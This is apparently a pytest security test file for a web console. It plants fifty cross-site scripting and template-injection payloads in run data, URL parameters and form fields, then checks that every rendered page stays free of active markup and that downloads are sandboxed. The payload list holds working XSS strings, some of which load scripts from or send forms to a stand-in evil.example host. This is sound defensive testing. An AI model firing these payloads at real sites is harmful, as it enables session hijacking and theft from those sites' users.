"""Nothing that a person or a tool wrote becomes markup: 50 script payloads in every field that a page shows."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from mandamus.identity.model import User
from mandamus.web.render import visible

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</code></td></table><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '" hx-get="https://evil.example" hx-trigger="load',
    '" hx-on:load="alert(1)',
    "{{ 7 * 7 }}{% for x in y %}",
    "{{ self.__init__.__globals__ }}",
    "${alert(1)}`alert(1)`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe\u200b<b>\ufeff",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
]
TAGS = {
    *("html", "head", "meta", "title", "link", "script", "body", "header", "main", "nav", "section", "div", "pre"),
    *("h1", "h2", "h3", "h4", "p", "a", "span", "strong", "code", "time", "ul", "li", "img", "details", "summary"),
    *("table", "thead", "tbody", "tr", "th", "td", "form", "label", "select", "option", "input", "textarea", "button"),
    *("ol", "svg", "g", "path", "rect", "text", "dialog", "kbd"),
}


class Reader(HTMLParser):
    """Collects what would act, and what would be read."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.open: list[str] = []

    def handle_starttag(self, tag, attrs):
        """Keep the tag, and every attribute with its value."""
        self.tags.add(tag)
        self.open.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        """Keep what a person reads; a script has no text of its own."""
        assert not data.strip() or self.open[-1:] != ["script"]
        self.text += data

    def handle_endtag(self, tag):
        """Go back to the tag that this one closes."""
        while self.open and self.open.pop() != tag:
            pass


def read(text: str) -> Reader:
    """A page, checked: nothing in it acts that the console did not put there."""
    found = Reader()
    found.feed(text)
    found.close()
    assert found.tags <= TAGS, found.tags - TAGS
    for tag, name, value in found.attributes:
        assert not name.startswith("on"), (tag, name, value)
        assert not name.startswith("hx-") or value.startswith(("/runs/run_", "end", "innerMorph")), (tag, name, value)
        assert name not in {"style", "srcdoc", "formaction", "srcset", "ping"}, (tag, name, value)
        if name in {"href", "src", "action"}:
            assert value.startswith(("/", "?", "#")), (tag, name, value)
            assert not value.startswith("//"), (tag, name, value)
    return found


@pytest.fixture(scope="module")
def hostile(place) -> str:
    """A run that holds every payload as input, reason, environment of the tool, output and log; its id."""
    with place.house.rooms.db.begin("test") as tx:
        users = [User("grace", PAYLOADS[0], "x@example.com"), User("ada", PAYLOADS[5])]
        place.house.identity.apply(tx, place.house.who, users, [])
    lines = "\n".join(PAYLOADS)
    run = place.run(reason=lines[:2_000], says=lines, asked=True)
    grace = place.house.identity.active("grace")
    place.house.runs.approve(grace, run, reason=lines[:2_000])
    place.house.drive(run, lambda _notice: None)
    return run


def pages(run: str) -> list[str]:
    """Every page on which something of the run is shown."""
    of_run = [
        f"/runs/{run}{rest}" for rest in ("", "/steps/change", "/steps/change/decide", "/steps/change/log", "/retry")
    ]
    forms = [f"/catalog/storage/workflows/deploy.yaml?from={run}", "/workflows/storage/workflows/deploy.yaml"]
    lists = [
        "/",
        "/runs",
        "/approvals",
        "/policies",
        f"/policies?run={run}",
        "/policies/sets/policy",
        "/environments/dev",
        f"/audit?run={run}",
        "/settings/people",
    ]
    return [*lists, *forms, *of_run]


def test_there_are_fifty():
    """Each another."""
    assert len(set(PAYLOADS)) == 50


def test_nothing_of_a_run_becomes_markup(visit, hostile):
    """Every page of it is made of the console's own tags, and the payloads are there to be read."""
    client = visit("grace")
    found = {path: read(client.get(path).text).text for path in pages(hostile)}
    page, log = found[f"/runs/{hostile}"], found[f"/runs/{hostile}/steps/change/log"]
    for payload in PAYLOADS:
        shown = visible(payload)
        assert shown in log or "\u202e" in payload, payload
        assert shown in page or '"' in payload or "\u202e" in payload, payload
    assert "\u202e" not in page + log


def test_the_stream_holds_no_markup_either(visit, hostile):
    """What comes later is escaped as what came first."""
    answer = visit("grace").get(f"/runs/{hostile}/live")
    parts = "".join(
        line.removeprefix("data: ") + "\n" for line in answer.text.splitlines() if line.startswith("data: ")
    )
    assert visible(PAYLOADS[0]) in read(parts).text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_looked_for_in_a_run_becomes_no_markup(visit, hostile, payload):
    """The text that is searched for in an output, and what steps of a run are filtered by."""
    client = visit("grace")
    log = f"/runs/{hostile}/steps/change/log"
    assert visible(payload) in read(client.get(log, params={"q": payload}).text).text
    for fields in ({"from": payload}, {"phase": payload}, {"at": payload}):
        read(client.get(log, params=fields).text)
    for fields in ({"name": payload}, {"state": payload}, {"group": payload, "by": "prefix"}):
        read(client.get(f"/runs/{hostile}", params=fields).text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_address_becomes_markup(visit, payload):
    """What stands in an address is shown in errors and in filters, and in the links to further pages."""
    client = visit("grace")
    for path, fields in (
        ("/runs", {"environment": payload, "project": payload, "workflow": payload, "requester": payload}),
        ("/runs", {"state": payload}),
        ("/policies", {"environment": payload}),
        ("/policies", {"run": payload}),
        ("/audit", {"text": payload, "actor": payload}),
        ("/audit", {"kind": payload}),
        ("/sign-in", {"link": payload}),
        ("/catalog", {"text": payload, "project": payload}),
        ("/catalog/storage/workflows/deploy.yaml", {"environment": payload}),
        ("/catalog/storage/workflows/deploy.yaml", {"from": payload}),
        ("/settings/people", {"text": payload}),
        ("/policies/exemptions", {"environment": payload}),
        ("/policies/sets/policy", {"version": payload}),
        ("/audit", {"project": payload, "since": payload}),
        ("/audit/export", {"format": payload}),
    ):
        read(client.get(path, params=fields).text)
    for path in ("runs", "policies/sets", "environments"):
        read(client.get(f"/{path}/{payload}".replace("?", "").replace("#", "")).text)
    read(client.post("/sign-in", data={"link": payload}).text)
    names = ("in.asked", "in.public", "in.says", "environment", "reason", "ticket", "key", "digest")
    read(client.post("/catalog/storage/workflows/deploy.yaml", data=dict.fromkeys(names, payload)).text)
    read(client.post("/settings/tokens", data={"name": payload, "days": payload, "key": "1"}).text)


def test_downloads_are_no_pages(visit, hostile):
    """They are kept under a name of ours, never shown, and could do nothing if they were."""
    client = visit("grace")
    leaf = re.search(r'href="(/audit/\d+)"', client.get(f"/audit?run={hostile}").text)[1]
    for path in (f"/runs/{hostile}/evidence", f"/runs/{hostile}/steps/change/log.txt", f"{leaf}/proof"):
        answer = client.get(path)
        assert answer.headers["content-disposition"].startswith("attachment; filename=")
        assert answer.headers["content-security-policy"] == "sandbox"
        assert "html" not in answer.headers["content-type"]
